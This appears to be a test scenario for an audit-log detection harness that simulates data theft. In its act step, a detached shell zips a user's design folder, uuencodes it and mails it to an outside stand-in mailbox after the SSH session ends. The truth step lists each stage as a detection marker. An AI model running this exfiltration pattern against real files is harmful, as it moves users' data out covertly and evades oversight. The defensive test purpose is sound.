# uuencode into mailx, detached from the terminal.
title="Archive encoded with uuencode and mailed by a detached shell"
what="Over SSH without a terminal, a detached shell of dev packs ~/designs with zip, encodes it with uuencode and pipes it into mailx to an outside mailbox. The session is closed before the mail goes out."
host=mx1.example.org user=dev daemons="cron sshd" audit_format=RAW

setup() { install -d -o dev -g dev /home/dev/designs; for i in 1 2 3; do head -c 30000 /dev/urandom > /home/dev/designs/part$i.dwg; done; chown -R dev: /home/dev/designs; }
act() {
  small_talk 3
  ssh_run dev 'nohup setsid sh -c "sleep 3; zip -q -r .d.zip designs; uuencode .d.zip d.zip | mailx -s parts archive@example.com; rm .d.zip" >/dev/null 2>&1 &'
  wait_log 'to=<archive@example.com>.*status=sent' 30
  small_talk 2
}
truth() {
  exec_step pack 'zip -q -r .d.zip designs' 'a folder is packed'
  exec_step encode 'uuencode .d.zip' 'and encoded'
  exec_step hand-over 'mailx -s parts archive@example.com' 'and handed to mailx'
  mail_step sent 'to=<archive@example.com>.*status=sent' 'Postfix delivers it outside'
}
